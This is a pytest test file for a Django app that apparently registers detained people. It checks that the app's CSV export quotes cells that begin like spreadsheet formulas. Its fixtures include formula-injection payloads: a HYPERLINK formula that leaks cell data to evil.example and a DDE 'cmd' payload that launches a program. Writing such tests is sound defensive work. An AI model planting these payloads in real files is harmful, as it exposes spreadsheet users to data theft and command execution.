"""The CSV export never hands a spreadsheet a formula to run."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from habeas.cases import services
from habeas.coalition.models import Role
from tests.factories import CampaignFactory, UserFactory, grant

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_cells_a_spreadsheet_would_run_are_exported_with_a_leading_quote() -> None:
    """Names, Urdu names, aliases, regions and sources that begin with =, +, -, @, a tab
    or a carriage return reach the CSV export prefixed with ', and nothing else changes."""
    campaign = CampaignFactory(slug="free-them")
    doc1, doc2 = UserFactory(username="doc1"), UserFactory(username="doc2")
    grant(doc1, Role.DOCUMENTER, campaign=campaign)
    grant(doc2, Role.DOCUMENTER, campaign=campaign)
    source = services.source_for(by=doc1, title='=HYPERLINK("https://evil.example/?"&A1,"Court")')
    rows = [
        ('=HYPERLINK("https://evil.example/?"&B2,"Ali")', "", "", ""),
        ("+92 Ali", "=1+1", "", ""),
        ("-2+3", "", "@SUM(A1:A9)", ""),
        ("@Ali", "", "", "\t=cmd|' /C calc'!A0"),
        ("Plain Ali", "", "", "\r=1+1"),
        ("Zia 2025-05", "علی", "Comrade Z", "Gilgit"),
    ]
    for name, name_ur, aliases, region in rows:
        person = services.person_save(
            by=doc1,
            source=source,
            campaign=campaign,
            name=name,
            name_ur=name_ur,
            aliases=aliases,
            home_region=region,
        )
        services.person_verify(by=doc2, person=person)

    response = Client().get("/register/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    table = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(table) == len(rows)
    by_name = {row["name"].lstrip("'"): row for row in table}
    for name, name_ur, aliases, region in rows:
        exported = by_name[name]
        for column, value in [
            ("name", name),
            ("name_ur", name_ur),
            ("aliases", aliases),
            ("home_region", region),
        ]:
            expected = "'" + value if value.startswith(FORMULA_STARTS) else value
            assert exported[column] == expected, (column, value)
        assert exported["sources"] == "'" + source.title
    for row in table:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    assert by_name["Zia 2025-05"]["name"] == "Zia 2025-05"
    assert by_name["Zia 2025-05"]["verified_at"][:2] == "20"


def test_only_text_that_starts_like_a_formula_is_prefixed() -> None:
    """Numbers, empty cells and text with a formula sign inside are left as they are."""
    from habeas.core.text import spreadsheet_safe

    assert spreadsheet_safe(1990) == 1990
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe("Ali = Khan") == "Ali = Khan"
    assert spreadsheet_safe("-") == "'-"
